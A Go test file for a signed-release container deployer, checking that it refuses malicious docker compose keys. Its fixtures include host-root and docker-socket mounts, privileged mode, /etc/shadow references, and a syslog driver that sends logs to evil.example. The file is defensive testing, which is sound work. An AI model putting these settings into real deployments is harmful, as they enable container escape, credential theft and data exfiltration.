package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/consign-dev/consign/internal/reason"
	"github.com/consign-dev/consign/internal/world"
)

// composeAttack is a key that a supplier's signed component carries. Packing
// would refuse most of them; this supplier does not use our packer.
type composeAttack struct {
	name string
	// service is added to the service, top to the file.
	service, top string
	code         reason.Code
	// says is what the refusal names.
	says string
}

var composeAttacks = map[string][]composeAttack{
	"C1": {
		{"host root", "volumes: ['/:/host']", "", reason.Grant, "volumes[0]"},
		{"engine socket", "volumes: ['/var/run/docker.sock:/s']", "", reason.Grant, "engineSocket"},
		{"relative escape", "volumes: ['../../etc:/e']", "", reason.Grant, "volumes[0]"},
		{"driver options", "volumes: ['data:/d']", "volumes: {data: {driver_opts: {type: none, o: bind, device: /}}}", reason.Grant, "driver_opts"},
	},
	"C2": {
		{"privileged", "privileged: true", "", reason.Grant, "privileged"},
		{"host network", "network_mode: host", "", reason.Grant, "hostNetwork"},
	},
	"C3": {
		{"include", "", "include: ['oci://evil.example/x']", reason.Render, "include"},
		{"extends", "extends: {file: '/etc/x.yaml', service: x}", "", reason.Render, "extends"},
	},
	"C4": {
		{"env_file", "env_file: [../../../etc/shadow]", "", reason.Path, "env_file"},
		{"config", "configs: [c]", "configs: {c: {file: /etc/shadow}}", reason.Path, "configs.c"},
	},
	"C5": {
		{"variable", "labels: {x: '${HOME}'}", "", reason.Render, "HOME"},
		{"environment", "environment: [HOME]", "", reason.Render, "HOME"},
	},
	"C6": {{"build", "build: {dockerfile_inline: FROM scratch}", "", reason.Render, "build"}},
	"C8": {
		{"container name", "container_name: other-web-1", "", reason.Grant, "container_name"},
		{"labels of another", "labels: {com.docker.compose.project: other}", "", reason.Grant, "com.docker.compose.project"},
	},
	"C9": {
		{"post_start", "post_start: [{command: [x], privileged: true}]", "", reason.Grant, "post_start"},
		{"provider", "provider: {type: x}", "", reason.Grant, "provider"},
	},
	"C10": {{"privileged port", "ports: ['443:443']", "", reason.Grant, "443"}},
	"C12": {
		{"remote log", "logging: {driver: syslog, options: {syslog-address: 'tcp://evil.example:514'}}", "", reason.Grant, "logDrivers"},
		{"hosts", "extra_hosts: ['registry:6.6.6.6']", "", reason.Grant, "extra_hosts"},
	},
	"C13": {
		{"memory", "mem_limit: 1t", "", reason.Grant, "mem_limit"},
		{"processes", "pids_limit: -1", "", reason.Grant, "pids_limit"},
	},
}

// refusesCompose makes a release with each key of a row.
func refusesCompose(t *testing.T, row string) {
	t.Helper()
	s := fresh(t)
	for n, a := range composeAttacks[row] {
		t.Run(a.name, func(t *testing.T) {
			said := s.Refused(t, a.code, func() { s.compose(fmt.Sprintf("1.2.%d", n), a.service, a.top) })
			if !strings.Contains(said, a.says) {
				t.Errorf("the refusal does not name %s: %s", a.says, said)
			}
		})
	}
	s.Recovers(t)
}

// compose releases hello with further keys and orders it.
func (s *site) compose(version, service, top string) {
	s.T.Helper()
	s.order(version, s.Supply("1.1.0", version, func(p *world.Parts) { p.Compose["compose.yaml"] = composeWith(service, top) }))
}

func composeWith(service, top string) string {
	return "services:\n  hello:\n    image: localhost/hello:1.1.0\n    " + strings.ReplaceAll(service, "\n", "\n    ") + "\n" + top + "\n"
}

func TestAttackC1SignedMounts(t *testing.T)        { refusesCompose(t, "C1") }
func TestAttackC2SignedPrivileges(t *testing.T)    { refusesCompose(t, "C2") }
func TestAttackC3SignedIncludes(t *testing.T)      { refusesCompose(t, "C3") }
func TestAttackC4SignedHostFiles(t *testing.T)     { refusesCompose(t, "C4") }
func TestAttackC5SignedVariables(t *testing.T)     { refusesCompose(t, "C5") }
func TestAttackC6SignedBuild(t *testing.T)         { refusesCompose(t, "C6") }
func TestAttackC8SignedNames(t *testing.T)         { refusesCompose(t, "C8") }
func TestAttackC9SignedHooks(t *testing.T)         { refusesCompose(t, "C9") }
func TestAttackC10SignedPorts(t *testing.T)        { refusesCompose(t, "C10") }
func TestAttackC12SignedExfiltration(t *testing.T) { refusesCompose(t, "C12") }
func TestAttackC13SignedStarvation(t *testing.T)   { refusesCompose(t, "C13") }

// TestAttackC11ServiceInAProfile: a service that only a profile turns on never
// runs, so nothing that it asks for is given.
func TestAttackC11ServiceInAProfile(t *testing.T) {
	s := fresh(t)
	s.order("1.2.0", s.Supply("1.1.0", "1.2.0", func(p *world.Parts) {
		p.Compose["compose.yaml"] = composeWith("restart: always", "") + "  hidden:\n    image: localhost/hello:1.1.0\n    profiles: [debug]\n    privileged: true\n"
	}))
	t.Setenv("COMPOSE_PROFILES", "debug")
	if _, err := s.D.Sync(); err != nil {
		t.Fatal(err)
	}
	runs := strings.Join(s.D.Runs(), "\n")
	if strings.Contains(runs, "hidden") || !strings.Contains(runs, `"restart":"always"`) {
		t.Errorf("what runs is %s", runs)
	}
}

// TestAttackC7DigestOfNobody: an image by a digest that the bundle does not hold.
func TestAttackC7DigestOfNobody(t *testing.T) {
	s := fresh(t)
	s.Refuses(t, reason.ImageUnpinned, func() {
		s.order("1.2.0", s.Supply("1.1.0", "1.2.0", func(p *world.Parts) {
			p.Compose["compose.yaml"] = "services: {hello: {image: 'evil.example/x:latest'}}\n"
		}))
	}, nothing)
}

// TestAttackC14SickRelease: a well-signed release that does not become healthy
// is stopped, and what ran before runs again.
func TestAttackC14SickRelease(t *testing.T) {
	s := fresh(t)
	before := s.D.Runs()
	sick := filepath.Join(s.D.Engine, "sick")
	s.Must(os.WriteFile(sick, []byte(s.Bundle("1.1.0").Images[0].Manifest.Digest+"\n"), 0o600))
	s.Deploy(device, "1.1.0", nil)
	if _, err := s.D.Sync(); !reason.Is(err, reason.Health) {
		t.Fatalf("the device says %v", err)
	}
	if now := s.D.Runs(); !slices.Equal(now, before) {
		t.Errorf("%q run, before the order it was %q", now, before)
	}
	if kinds := strings.Join(s.D.Events(), " "); !strings.HasSuffix(kinds, "outcome:health intent:rollback rolled-back") {
		t.Errorf("the log says %s", kinds)
	}
	s.Must(os.Remove(sick))
	s.Recovers(t)
}
